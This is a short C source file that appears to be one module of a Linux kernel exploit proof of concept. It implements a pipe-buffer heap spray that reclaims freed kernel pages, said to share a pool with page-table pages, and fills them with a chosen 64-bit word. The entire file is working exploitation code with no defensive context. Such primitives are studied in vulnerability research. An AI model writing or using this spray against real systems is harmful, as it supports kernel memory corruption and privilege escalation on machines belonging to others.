// Freed kernel pages, had again with a content of our choice.
#include "proof.h"

#include <errno.h>
#include <fcntl.h>
#include <stdlib.h>
#include <unistd.h>

#define PIPES 8
#define PIPE_PAGES 64U

static int pipes[PIPES][2];

// Fills freed kernel pages with a word. Pages of pipes come from where pages of tables come from; a process's own don't.
unsigned spray(uint64_t word)
{
	uint64_t page = 1ULL << page_shift(), *content = malloc(page);
	unsigned filled = 0;

	CHECK(content, "no memory");
	for (uint64_t i = 0; i < page / sizeof(word); i++)
		content[i] = word;
	for (int i = 0; i < PIPES; i++) {
		CHECK(!pipe2(pipes[i], O_NONBLOCK | O_CLOEXEC), "pipe: %s", error_name(errno));
		fcntl(pipes[i][1], F_SETPIPE_SZ, PIPE_PAGES * page);
		while (write(pipes[i][1], content, page) == (ssize_t)page)
			filled++;
	}
	free(content);
	CHECK(filled >= PIPE_PAGES, "only %u pages could be filled", filled);
	return filled;
}

void spray_end(void)
{
	for (int i = 0; i < PIPES; i++) {
		close(pipes[i][0]);
		close(pipes[i][1]);
	}
}
